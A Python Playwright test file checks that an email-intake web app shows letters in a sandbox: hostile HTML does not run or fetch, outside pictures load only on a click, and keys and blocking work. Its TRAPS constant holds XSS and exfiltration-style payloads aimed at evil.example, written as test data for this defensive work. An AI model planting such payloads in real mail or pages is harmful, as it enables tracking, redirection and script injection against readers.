"""Letters in a real browser: nothing of theirs runs or fetches, pictures come by a click, keys work."""

import re

import pytest
from playwright.async_api import Page, expect

from intake.model.letters import LetterKind
from storage.database import announce
from storage.inquiries import announce_inquiry
from storage.tables.inquiries import Inquiry
from storage.tables.people import Role
from tests.browser.people import findings, signed_in
from tests.real.chromium import Desk
from tests.site import Site
from tests.unit.test_letter_html import HOSTILE
from tests.web.mail import PDF, SENDER, attach, inquiry_by_letter, letter, mailbox
from web.letter_html import Readable

pytestmark = pytest.mark.real

PHONE = {"viewport": {"width": 360, "height": 740}}
BOLD = '<p>Look: <b>bold</b> <img src="cid:photo@x" width="40"> <img src="https://tracker.example/p.gif"></p>'
TRAPS = """
<script>top.location = 'https://evil.example/top'; parent.document.title = 'caught'; alert(1)</script>
<script>fetch('https://evil.example/fetch'); new Image().src = 'https://evil.example/image'</script>
<img src="https://evil.example/pixel.gif"><img src=x onerror="alert(2)">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>body { background: url(https://evil.example/background.png) }</style>
<svg onload="alert(3)"></svg>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/"><iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<video src="https://evil.example/video.mp4" autoplay></video>
<form action="https://evil.example/form" target="_top"><input name="q" autofocus onfocus="alert(4)">
<button id="send">send</button></form><script>document.forms[0].submit()</script>
<a id="script" href="javascript:alert(5)">run</a>
<a id="top" href="https://evil.example/link" target="_top">top</a>
"""


BROWSERS_OWN = ("chrome://", "chrome-extension://")  # its viewer of PDFs; no page can ask for these


class Trap:
    """What a letter brought about: dialogs, requests that really leave for others, pages that opened."""

    def __init__(self) -> None:
        self.caught: list[str] = []

    async def laid(self, desk: Desk, page: Page, site: Site) -> "Trap":
        own = (site.url().rstrip("/"), *BROWSERS_OWN)
        page.on("dialog", self._dialog)
        desk.context.on("page", lambda opened: self.caught.append(f"opened {opened.url}"))
        await desk.context.route(lambda address: not address.startswith(own), self._left)
        return self

    async def _dialog(self, dialog) -> None:
        self.caught.append(f"said {dialog.message}")
        await dialog.dismiss()

    async def _left(self, route) -> None:
        self.caught.append(f"asked {route.request.url}")
        await route.fulfill(body="caught")


def frame(page: Page):
    return page.frame_locator("#pane iframe.letterframe")


async def pane_of(page: Page, inquiry: int) -> None:
    await expect(page.locator(f"#pane > #inquiry-{inquiry}")).to_be_visible()


async def as_sent(page: Page) -> None:
    await page.keyboard.press("KeyH")
    await expect(page.locator("#pane iframe.letterframe")).to_be_visible()


async def test_nothing_hostile_runs_or_fetches(site, desk):
    inquiry, _ = await inquiry_by_letter(
        site, html="\n".join([*HOSTILE, TRAPS, "<p>the end</p>"]).replace("\0", "")
    )
    page = await signed_in(site, desk)
    trap = await Trap().laid(desk, page, site)
    await page.goto(site.url(f"/inquiries/{inquiry}"))
    await as_sent(page)
    await expect(frame(page).locator("body")).to_contain_text("x")
    await page.wait_for_timeout(700)
    assert trap.caught == []
    assert await page.title() != "caught"
    assert page.url == site.url(f"/inquiries/{inquiry}")
    assert desk.problems == [], "it is harmless by itself: the browser had nothing to refuse"


async def test_sandbox_and_policy_hold_alone_if_the_cleaning_ever_fails(site, desk, monkeypatch):
    monkeypatch.setattr("web.pages.letters_body.readable", lambda html, *_, **__: Readable(html))
    inquiry, one = await inquiry_by_letter(site, html=TRAPS + "<p>the end</p>")
    page = await signed_in(site, desk)
    trap = await Trap().laid(desk, page, site)
    await page.goto(site.url(f"/inquiries/{inquiry}"))
    await as_sent(page)
    await page.wait_for_timeout(700)
    assert trap.caught == []
    assert page.url == site.url(f"/inquiries/{inquiry}")
    assert desk.problems, "the browser refused, and says so"
    await page.goto(site.url(f"/letters/{one}/body"))  # not even as a page of its own, without our frame
    await page.wait_for_timeout(700)
    assert [each for each in trap.caught if "said" in each] == []
    assert await page.evaluate("document.forms.length") == 1
    assert [each for each in trap.caught if "refresh" not in each] == []


async def test_a_letter_reaches_nothing_of_ours(site, desk, monkeypatch):
    """Not our page, not our cookies, not our storage: its origin is nobody's."""
    monkeypatch.setattr("web.pages.letters_body.readable", lambda html, *_, **__: Readable(html))
    inquiry, one = await inquiry_by_letter(site, html="<p>x</p><img src='/letters/1/files/1/shown'>")
    await attach(site, one)
    page = await signed_in(site, desk)
    await page.goto(site.url(f"/inquiries/{inquiry}"))
    await as_sent(page)
    await expect(frame(page).locator("p")).to_be_visible()
    assert await page.evaluate("document.querySelector('iframe').contentDocument") is None
    assert await frame(page).locator("img").evaluate("img => img.naturalWidth") == 0


async def test_pictures_of_the_letter_are_there_and_those_from_outside_come_by_a_click(site, desk):
    inquiry, one = await inquiry_by_letter(site, html=BOLD)
    await attach(site, one, content_id="photo@x", inline=True)
    page = await signed_in(site, desk)
    asked: list[str] = []

    async def answer(route) -> None:
        asked.append(route.request.headers.get("referer", "nobody"))
        await route.fulfill(body=PDF, content_type="image/gif")

    await desk.context.route("https://tracker.example/**", answer)
    await page.goto(site.url(f"/inquiries/{inquiry}"))
    await as_sent(page)
    photo = frame(page).locator("img").first
    await expect(photo).to_be_visible()
    assert await photo.evaluate("img => img.naturalWidth") == 10
    assert asked == []
    await page.get_by_role("button", name="Показать 1 картинку извне").click()
    await expect(page.locator("#pane")).to_contain_text("Картинки извне показаны, только сейчас")
    await expect(frame(page).locator("img").nth(1)).to_have_attribute("src", "https://tracker.example/p.gif")
    await page.wait_for_timeout(300)
    assert asked == ["nobody"], "fetched once, and not told from where"
    await page.reload()
    await as_sent(page)
    await expect(frame(page).locator("b")).to_be_visible()
    assert len(asked) == 1, "never remembered"


async def test_keys_read_accept_decline_and_go_on(site, desk):
    await mailbox(site)
    first, _ = await inquiry_by_letter(site, minutes=30, html=BOLD)
    second, _ = await inquiry_by_letter(site, minutes=20, subject="Second")
    third, _ = await inquiry_by_letter(site, minutes=10, subject="Third")
    page = await signed_in(site, desk)
    await page.goto(site.url("/inquiries"))
    await pane_of(page, first)
    await as_sent(page)
    await page.keyboard.press("KeyH")
    await expect(page.locator("#pane .lettertext").first).to_be_visible()
    await page.keyboard.press("KeyJ")
    await pane_of(page, second)
    await page.keyboard.press("KeyN")
    await pane_of(page, third)
    await expect(page.locator(f"#row-{second} .row")).to_have_class(re.compile(r"\bdone\b"))
    await page.get_by_role("button", name="Отменить").click()
    await expect(page.locator(f"#row-{second}[data-open]")).to_be_visible()
    await page.keyboard.press("KeyA")
    await expect(page.locator("#sheet")).to_be_visible()
    assert f"/inquiries/{third}/wizard" in page.url
    await expect(page.locator("#sheet input[name=email]")).to_have_value(SENDER)
    await page.keyboard.press("Escape")
    await pane_of(page, third)
    assert desk.problems == []


async def test_a_sender_is_blocked_and_let_in_again(site, desk):
    first, _ = await inquiry_by_letter(site, minutes=30)
    second, _ = await inquiry_by_letter(site, minutes=20)
    page = await signed_in(site, desk)
    await page.goto(site.url(f"/inquiries/{first}"))
    await page.locator("#pane .block summary").click()
    await page.get_by_role("button", name=f"все с {SENDER.partition('@')[2]}").click()
    await pane_of(page, second)
    await page.get_by_role("button", name="Отменить").click()
    await expect(page.locator(f"#row-{first}[data-open]")).to_be_visible()
    assert desk.problems == []


async def test_a_new_letter_comes_without_moving_what_is_read(site, desk):
    inquiry, one = await inquiry_by_letter(site, minutes=30, html=BOLD)
    page = await signed_in(site, desk)
    await page.goto(site.url(f"/inquiries/{inquiry}"))
    await as_sent(page)
    await page.locator("#pane .notes textarea").fill("half a thou")
    where = await page.locator(f"#row-{inquiry}").bounding_box()
    fresh, _ = await inquiry_by_letter(site, minutes=0, subject="Совсем новое")
    answer = await letter(site, inquiry, text="И ещё одно")
    async with site.database.transaction() as session:
        for row_id in (fresh, inquiry):
            announce_inquiry(session, await session.get_one(Inquiry, row_id))
        announce(session, "letter", letter=answer, inquiry=inquiry)
    await expect(page.locator(f"#row-{fresh}")).to_contain_text("Совсем новое")
    await expect(page.locator(f"#letter-{answer}")).to_contain_text("И ещё одно")
    assert await page.locator(f"#row-{inquiry}").bounding_box() == where
    await expect(page.locator(f"#letterbody-{one} iframe")).to_be_visible()  # what is read stays as it was
    await expect(page.locator("#pane .notes textarea")).to_have_value("half a thou")


async def test_files_are_looked_at_one_after_another_by_keys(site, desk):
    inquiry, one = await inquiry_by_letter(site)
    await attach(site, one)
    await attach(site, one, PDF, filename="план.pdf", content_type="application/pdf", position=1)
    await attach(
        site, one, b"<svg onload='alert(1)'/>", content_type="image/png", filename="x.png", position=2
    )
    page = await signed_in(site, desk)
    trap = await Trap().laid(desk, page, site)
    await page.goto(site.url(f"/inquiries/{inquiry}"))
    await page.get_by_role("link", name="photo.png").first.click()
    picture = page.locator("#sheet .picture img")
    await expect(picture).to_be_visible()
    assert await picture.evaluate("img => img.naturalWidth") == 10
    await page.keyboard.press("ArrowRight")
    await expect(page.locator("#sheet iframe")).to_have_attribute("title", "план.pdf")
    await page.keyboard.press("ArrowRight")
    await expect(page.locator("#sheet")).to_contain_text("Этот файл не то, чем назван")
    await page.keyboard.press("Escape")
    await pane_of(page, inquiry)
    assert trap.caught == []


async def test_what_is_no_inquiry_is_read_by_keys_and_becomes_one(site, desk):
    spam = await letter(site, spam="X-Spam-Flag: YES", subject="Выигрыш")
    robot = await letter(site, kind=LetterKind.AUTO_REPLY, subject="В отпуске")
    page = await signed_in(site, desk)
    await page.goto(site.url("/inquiries"))
    await page.get_by_role("link", name="Не обращения").click()
    await expect(page.locator(f"#letterpane-{robot}")).to_be_visible()
    await page.keyboard.press("KeyJ")
    await expect(page.locator(f"#letterpane-{spam}")).to_be_visible()
    await page.keyboard.press("KeyA")
    await expect(page.locator("#pane > .reading-one")).to_contain_text("Выигрыш")
    await page.wait_for_url("**/inquiries/*")
    await expect(page.locator("#toasts")).to_contain_text("Теперь ждёт среди обращений")
    assert desk.problems == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("screen", [{}, PHONE], ids=["desk", "phone"])
async def test_axe_finds_nothing_and_nothing_sticks_out(site, new_desk, scheme, screen):
    await mailbox(site)
    inquiry, one = await inquiry_by_letter(
        site,
        html=BOLD,
        text="See https://a.example/\n> quoted",
        reply_text="See https://a.example/",
        from_email="x@other.example",
        sender_why="reply-to",
        problems=["bad-date"],
        fields={"Имя": "Дарья"},
    )
    await letter(site, inquiry, kind=LetterKind.AUTO_REPLY)
    photo = await attach(site, one)
    await attach(site, one, filename="очень длинное имя " * 9 + ".xlsx", content_type="application/x")
    quarantined = await letter(site, quarantined=True, text="")
    desk = await new_desk(color_scheme=scheme, **screen)
    page = await signed_in(site, desk, role=Role.ADMINISTRATOR)
    for path in (
        f"/inquiries/{inquiry}", "/letters", f"/letters/{quarantined}", f"/letters/{one}/large",
        f"/letters/{one}/files/{photo}/look", f"/letters/{one}/why", f"/letters/{one}/source",
    ):  # fmt: skip
        await page.goto(site.url(path))
        for folded in await page.locator("#pane details.letter:not([open]) > summary:visible").all():
            await folded.click()
        for quoted in await page.locator("#pane .quoted > summary:visible").all():
            await quoted.click()
        assert await findings(page) == [], path
        wide = await page.evaluate("document.documentElement.scrollWidth - innerWidth")
        assert wide <= 0, path
    await page.goto(site.url(f"/inquiries/{inquiry}"))
    await page.locator("#pane details.letter > summary").first.click()
    await page.get_by_role("link", name="Как прислали").first.click()
    await expect(page.locator("#pane iframe.letterframe")).to_be_visible()
    assert await findings(page) == []
    assert desk.problems == []
